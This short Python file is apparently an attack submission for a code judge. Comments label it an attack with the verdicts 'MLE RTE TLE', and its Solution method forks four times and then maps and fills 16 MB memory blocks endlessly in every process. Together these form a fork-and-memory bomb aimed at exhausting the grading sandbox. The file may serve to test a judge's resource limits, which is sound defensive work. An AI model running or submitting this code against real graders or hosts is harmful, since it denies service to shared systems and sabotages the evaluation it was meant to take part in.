# Attack: maps memory without end, in many processes
# Verdict: MLE RTE TLE
import mmap
import os


class Solution:
    def whisper(self, n: int) -> str:
        for _ in range(4):
            os.fork()
        kept = []
        while True:
            kept.append(mmap.mmap(-1, 16 << 20))
            kept[-1].write(b"x" * (16 << 20))
